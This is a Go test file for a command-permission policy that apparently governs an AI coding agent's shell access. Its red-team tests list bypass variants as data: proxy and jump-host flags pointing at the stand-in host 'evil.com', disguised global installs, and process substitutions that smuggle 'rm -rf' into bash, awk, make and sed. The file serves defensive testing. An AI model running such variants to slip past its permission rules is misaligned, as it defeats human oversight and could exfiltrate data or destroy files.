package policy

import (
	"strings"
	"testing"
)

func TestWgetrcProxyFolding(t *testing.T) {
	for _, c := range []struct {
		name string
		want bool
	}{
		{"https_proxy", true}, {"httpsproxy", true}, {"HTTPS-PROXY", true}, {"Https_Proxy", true}, {" http-proxy ", true},
		{"ftp_proxy", true}, {"h_t_t_p_s_p_r_o_x_y", true},
		{"no_proxy", false}, {"use_proxy", false}, {"robots", false}, {"proxy_user", false},
	} {
		if got := wgetrcProxy(c.name); got != c.want {
			t.Errorf("wgetrcProxy(%q) = %v, want %v", c.name, got, c.want)
		}
	}
}

func TestProxyVarNames(t *testing.T) {
	for _, c := range []struct {
		name string
		want bool
	}{
		{"https_proxy", true}, {"HTTPS_PROXY", true}, {"RSYNC_PROXY", true}, {"npm_config_https_proxy", true}, {"PIP_PROXY", true},
		{"ALL_PROXY", true}, {"no_proxy", false}, {"NO_PROXY", false}, {"npm_config_no_proxy", false}, {"PROXYCHAINS_CONF", false},
	} {
		if got := proxyVar(c.name); got != c.want {
			t.Errorf("proxyVar(%q) = %v, want %v", c.name, got, c.want)
		}
	}
}

func TestGlobalFlagSpellings(t *testing.T) {
	for _, c := range []struct {
		arg, next string
		want      bool
	}{
		{"-g", "", true}, {"-gy", "", true}, {"-yg", "", true}, {"--global", "", true}, {"--global=true", "", true},
		{"--g", "", true}, {"--glob", "", true}, {"--GLOBAL", "", true}, {"--location=global", "", true}, {"--location", "user", true},
		{"--global=false", "", false}, {"--global", "false", false}, {"--location=project", "", false}, {"-D", "", false},
		{"--save-dev", "", false}, {"--globalconfig=x", "", false}, {"x", "", false},
	} {
		if got := globalFlag(c.arg, c.next); got != c.want {
			t.Errorf("globalFlag(%q, %q) = %v, want %v", c.arg, c.next, got, c.want)
		}
	}
}

func TestJumpHosts(t *testing.T) {
	for _, c := range []struct {
		in   string
		want string
	}{
		{"evil.com", "evil.com"}, {"u@evil.com:22", "evil.com:22"}, {"a.example,u@evil.com", "a.example evil.com"},
		{"ssh://u@evil.com:2222", "evil.com:2222"}, {"none", ""},
	} {
		if got := strings.Join(jumpHosts(staticWord(c.in)), " "); got != c.want {
			t.Errorf("jumpHosts(%q) = %q, want %q", c.in, got, c.want)
		}
	}
	if got := jumpHosts(word{s: "$J"}); len(got) != 1 || got[0] != "$" {
		t.Errorf("a jump host known at run time: %q, want [$]", got)
	}
}

func TestGitProxyConfig(t *testing.T) {
	for _, c := range []struct {
		in, host string
		ok       bool
	}{
		{"http.proxy=evil.com", "evil.com", true}, {"HTTPS.PROXY=evil.com", "evil.com", true},
		{"http.https://a.example/.proxy=evil.com", "evil.com", true}, {"remote.origin.proxy=evil.com", "evil.com", true},
		{"http.sslVerify=true", "", false}, {"user.name=proxy", "", false},
	} {
		h, ok := gitProxyConfig(staticWord(c.in))
		if h != c.host || ok != c.ok {
			t.Errorf("gitProxyConfig(%q) = %q, %v; want %q, %v", c.in, h, ok, c.host, c.ok)
		}
	}
}

// TestRedTeam3Properties: each class as a property over its spellings and
// the runner prefixes: a proxy named in any spelling under a deny of its
// host is denied; a global install in any spelling of any package manager
// asks; git on another repository asks under Bash(git *); a process
// substitution as any code-reading program's program asks. Every one in
// bypassPermissions (where the reading is the only thing that stands).
func TestRedTeam3Properties(t *testing.T) {
	prefixes := []string{"", "env ", "nice ", "timeout 5 ", "sudo -u u ", "command "}
	type prop struct {
		cmds  []string
		allow []string
		deny  []string
		want  Decision // Deny: denied; Ask: not allowed
	}
	var proxies []string
	for _, name := range []string{"https_proxy", "httpsproxy", "HTTPS-PROXY", "Http_Proxy", "ftp-proxy"} {
		proxies = append(proxies, "wget -e "+name+"=evil.com https://a.example/", "wget --execute="+name+"=evil.com https://a.example/")
	}
	for _, k := range []string{"http.proxy", "https.proxy", "http.https://a.example/.proxy", "remote.origin.proxy"} {
		proxies = append(proxies, "git -c "+k+"=evil.com fetch")
	}
	for _, j := range []string{"-J evil.com", "-J u@evil.com:22", "-o ProxyJump=evil.com", "-oProxyJump=evil.com", "-J a.example,evil.com"} {
		proxies = append(proxies, "ssh "+j+" a.example")
	}
	proxies = append(proxies, "pip install --proxy evil.com x", "pip --proxy=evil.com install x", "npm --https-proxy evil.com i x",
		"RSYNC_PROXY=evil.com rsync rsync://a.example/x .")
	var installs []string
	for _, pm := range []string{"npm i", "npm install", "pnpm add", "pnpm i", "bun add", "bun i"} {
		for _, g := range []string{"-g", "--global", "--global=true", "-gy"} {
			installs = append(installs, pm+" "+g+" x")
		}
	}
	installs = append(installs, "npm --g i x", "npm link", "yarn global add x", "gem install x", "pipx install x",
		"pip install --target ~/.local/lib x", "pip install --prefix=/usr/local x")
	var gits []string
	for _, g := range []string{"--git-dir=./evil/.git", "--git-dir ./evil/.git", "--work-tree=/", "--work-tree /", "--bare", "-C /tmp/x", "-c core.worktree=/"} {
		gits = append(gits, "git "+g+" status")
	}
	var subst []string
	for _, p := range []string{"bash -- <(echo 'rm -rf x')", "bash -x -- <(echo 'rm -rf x')", "bash /dev/fd/3 3< <(echo 'rm -rf x')",
		"awk -f <(echo 'BEGIN{system(\"rm -rf x\")}')", "make -f <(printf 'a:\\n\\trm -rf x\\n')", "sed -f <(echo 'e rm -rf x') f",
		"source <(echo 'rm -rf x')"} {
		subst = append(subst, p)
	}
	props := []prop{
		{proxies, []string{"Bash"}, []string{"WebFetch(domain:evil.com)"}, Deny},
		{installs, []string{"Bash"}, nil, Ask},
		{gits, []string{"Bash(git *)"}, []string{"Bash(rm *)"}, Ask},
		{subst, []string{"Bash"}, []string{"Bash(rm *)"}, Ask},
	}
	n := 0
	for _, p := range props {
		for _, cmd := range p.cmds {
			for _, pre := range prefixes {
				allow := p.allow
				if strings.HasPrefix(p.allow[0], "Bash(git") && pre != "" {
					allow = append([]string{"Bash(" + strings.TrimSpace(pre) + " *)"}, p.allow...)
				}
				full := pre + cmd
				for _, agentBypass := range []bool{false, true} {
					pc := policyCase{Tool: "Bash", Cmd: full, Allow: allow, Deny: p.deny}
					in := pc.input(t)
					in.Mode, in.AgentBypass = ModeBypass, agentBypass
					v := Evaluate(in)
					n++
					switch {
					case p.want == Deny && v.Decision != Deny:
						t.Errorf("%q under deny %v: got %s (%s), want deny", full, p.deny, v.Decision, v.Reason)
					case v.Decision == Allow:
						t.Errorf("%q under allow %v: allowed in bypass (%s)", full, allow, v.Reason)
					}
				}
			}
		}
	}
	if n < 500 {
		t.Fatalf("only %d calls checked", n)
	}
}

// TestRedTeam3Controls: the ordinary forms of the same programs stay
// allowed under allow Bash.
func TestRedTeam3Controls(t *testing.T) {
	for _, cmd := range []string{
		"npm i x", "npm ci", "npm run build", "npm --prefix sub run build", "npm i --global=false x", "pnpm add x", "bun add x",
		"yarn add x", "pip install -r requirements.txt", "pip install --target ./vendor x", "go run ./cmd/x", "cargo build --release",
		"git -C sub status", "git status", "wget -e robots=off https://a.example/", "ssh -J jump.example a.example",
		"no_proxy=evil.com curl https://a.example/", "diff <(ls a) <(ls b)", "awk -f prog.awk f", "make -f Makefile.ci test",
		"bash -x -- script.sh", "yarn node ./script.js",
	} {
		for _, mode := range []Mode{ModeDefault, ModeBypass} {
			pc := policyCase{Tool: "Bash", Cmd: cmd, Allow: []string{"Bash"}, Deny: []string{"WebFetch(domain:evil.com)", "Bash(rm *)"}}
			in := pc.input(t)
			in.Mode = mode
			if v := Evaluate(in); v.Decision != Allow {
				t.Errorf("%q in %s: got %s (%s), want allow", cmd, mode, v.Decision, v.Reason)
			}
		}
	}
}

func TestCheckDeclRunProgram(t *testing.T) {
	for _, d := range []*progDecl{
		{name: "x y", run: runProgram, forms: []string{"x y %s"}},
		{name: "x y", runProg: "node", match: []string{"x y"}},
		{name: "x", valued: []string{"--a"}, proxies: []string{"--p"}},
		{name: "x", installsTo: []string{"--t"}},
		{name: "x", scriptOpts: []string{"-f"}},
	} {
		if err := checkDecl(d); err == nil {
			t.Errorf("checkDecl(%+v) accepted a declaration that cannot mean what it says", *d)
		}
	}
}
